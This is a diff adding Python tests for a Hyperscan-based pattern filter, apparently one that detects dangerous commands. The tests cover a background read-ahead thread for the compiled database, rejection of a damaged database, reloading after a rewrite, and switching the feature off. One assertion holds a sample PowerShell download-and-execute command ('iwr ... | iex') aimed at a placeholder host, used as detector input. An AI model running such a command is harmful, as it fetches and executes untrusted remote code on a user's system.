@@ -556,3 +556,63 @@ def test_rules_beside_the_database_make_re2s_side_as_they_load(
     with_custom = CompiledRules([*rules, custom], hyperscan=True)
     assert with_custom._hs is not None and not with_custom._hs_all
     assert with_custom._pending is None  # a pattern no database proved compiles: checked now
+
+
+def _ahead_at(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, blob: bytes) -> Path:
+    """The shipped database is `blob`, in a rules folder of tmp_path, for read_ahead too."""
+    rules_dir = tmp_path / "rules"
+    path = hsfilter.shipped_path_of(rules_dir)
+    path.parent.mkdir(parents=True)
+    path.write_bytes(blob)
+    monkeypatch.setattr(hsfilter, "_rules_dir", lambda: rules_dir)
+    with_database(monkeypatch, path)
+    monkeypatch.delenv(hsfilter.ENABLE_VARIABLE, raising=False)
+    return path
+
+
+def test_the_database_read_ahead_is_the_one_loaded_and_no_thread_is_left(
+    rules: list[Rule], database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
+) -> None:
+    path = _ahead_at(monkeypatch, tmp_path, database.read_bytes())
+    hsfilter.read_ahead()
+    thread, _into = hsfilter._AHEAD[path]
+    assert thread.name == hsfilter.READ_AHEAD_THREAD
+    hsfilter.read_ahead()  # asked again: the same thread, not another
+    assert hsfilter._AHEAD[path][0] is thread
+    compiled = CompiledRules(rules, hyperscan=True)
+    assert compiled._hs is not None and compiled._hs_all
+    assert path not in hsfilter._AHEAD and not thread.is_alive()
+    hsfilter.read_ahead()  # loaded: nothing more is read
+    assert path not in hsfilter._AHEAD
+    assert compiled.hits("iwr https://a.example.invalid/x | iex")[0]
+
+
+def test_a_damaged_database_read_ahead_is_not_used(
+    rules: list[Rule], database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
+) -> None:
+    blob = database.read_bytes()
+    _ahead_at(monkeypatch, tmp_path, blob[:-100] + bytes([blob[-100] ^ 0xFF]) + blob[-99:])
+    hsfilter.read_ahead()
+    assert hsfilter.shipped() is None
+    assert CompiledRules(rules, hyperscan=True)._hs is None
+
+
+def test_a_database_written_after_it_was_read_ahead_is_the_one_loaded(
+    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
+) -> None:
+    path = _ahead_at(monkeypatch, tmp_path, database.read_bytes())
+    hsfilter.read_ahead()
+    assert path in hsfilter._AHEAD
+    assert hsfilter.write(path, [r"\bread-ahead-was-stale\b"])
+    assert path not in hsfilter._AHEAD
+    loaded = hsfilter.shipped()
+    assert loaded is not None and loaded.patterns == (r"\bread-ahead-was-stale\b",)
+
+
+def test_nothing_is_read_ahead_when_the_database_is_switched_off(
+    database: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, using: None
+) -> None:
+    path = _ahead_at(monkeypatch, tmp_path, database.read_bytes())
+    monkeypatch.setenv(hsfilter.ENABLE_VARIABLE, "0")
+    hsfilter.read_ahead()
+    assert path not in hsfilter._AHEAD
